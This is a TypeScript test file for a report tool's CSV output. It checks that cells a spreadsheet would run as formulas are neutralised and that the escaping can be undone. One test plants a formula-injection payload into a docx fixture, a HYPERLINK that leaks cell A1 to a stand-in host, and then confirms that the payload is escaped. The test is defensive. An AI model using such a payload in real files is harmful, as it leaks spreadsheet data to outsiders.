import { mkdtempSync, readFileSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { fmtStat, neutraliseFormula, toCsv } from '../../src/report/csv.js';
import { runCli } from '../helpers/cli.js';
import { ROOT } from '../helpers/fixtures.js';

describe('CSV cells a spreadsheet would run as formulas are neutralised', () => {
  it('prefixes text starting with = + - @ tab CR or their full-width forms, never numbers', () => {
    for (const s of ['=SUM(A1)', '+44 141', '-x', '@cmd', '\tx', '\rx', '＝1', '＋1', '－1', '＠x']) expect(neutraliseFormula(s)).toBe(`'${s}`);
    expect(neutraliseFormula('Established')).toBe('Established');
    const csv = toCsv(
      [
        { name: 'note', kind: 'text', value: (r: { note: string; movement: number }) => r.note },
        { name: 'movement', kind: 'number', value: (r) => r.movement },
        { name: 'mean', kind: 'number', value: () => fmtStat(-0.5) },
      ],
      [{ note: '-1', movement: -1 }],
    );
    expect(csv).toBe("note,movement,mean\n'-1,-1,-0.5000\n");
  });

  it('an evidence note starting =HYPERLINK(...) comes out neutralised in every CSV analyse writes', () => {
    const dir = mkdtempSync(join(tmpdir(), 'selfeval-inject-'));
    mkdirSync(join(dir, 'in'));
    const parts = unzipSync(readFileSync(join(ROOT, 'fixtures/cases/agreement-k4/fife.docx')));
    const doc = Buffer.from(parts['word/document.xml']!).toString('utf8');
    const evil = '=HYPERLINK("http://example.invalid/?leak="&amp;A1,"Click for evidence")';
    const patched = doc.replace('The Chief Officer and the Chief Executives of Fife Council and NHS Fife meet monthly as a joint leadership group.', evil);
    expect(patched).not.toBe(doc);
    writeFileSync(join(dir, 'in/fife.docx'), zipSync({ ...parts, 'word/document.xml': strToU8(patched) }));
    const r = runCli(['analyse', join(dir, 'in'), '--out', join(dir, 'out'), '-q']);
    expect(r.code).toBe(0);
    const evidence = readFileSync(join(dir, 'out/evidence.csv'), 'utf8');
    expect(evidence).toContain(`"'=HYPERLINK(""http://example.invalid/?leak=""&A1,""Click for evidence"")`);
    for (const f of ['ratings.csv', 'evidence.csv', 'diagnostics.csv', 'returns.csv', 'actions.csv', 'consensus.csv']) {
      const text = readFileSync(join(dir, 'out', f), 'utf8');
      // No cell (at a line start or after a comma or an opening quote) starts with a live formula.
      expect(text, f).not.toMatch(/(^|,|")=HYPERLINK/m);
    }
  });
});

describe('neutralising can always be undone', () => {
  it('round-trips values that already start with an apostrophe', async () => {
    const { restoreNeutralised } = await import('../../src/read/ratings-csv.js');
    for (const v of ['=1+1', "'=1+1", "''-3", "'quoted", 'plain', '-', "'"]) expect(restoreNeutralised(neutraliseFormula(v))).toBe(v);
  });
});
